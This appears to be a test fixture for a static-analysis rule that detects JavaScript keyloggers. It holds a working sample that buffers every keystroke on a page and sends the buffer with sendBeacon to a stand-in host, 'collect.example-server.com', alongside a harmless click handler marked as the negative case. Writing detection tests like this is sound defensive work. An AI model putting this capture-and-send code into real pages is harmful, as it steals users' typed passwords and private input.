(function () {
  var buffer = "";
  // ruleid: js-keylogger-capture-and-send
  document.addEventListener("keydown", function (e) {
    buffer += e.key.length === 1 ? e.key : "[" + e.key + "]";
  });
  setInterval(function () {
    if (buffer) {
      navigator.sendBeacon("https://collect.example-server.com/k", buffer);
      buffer = "";
    }
  }, 2000);
  // a click handler is not key capture
  // ok: js-keylogger-capture-and-send
  document.addEventListener("click", function () {});
})();
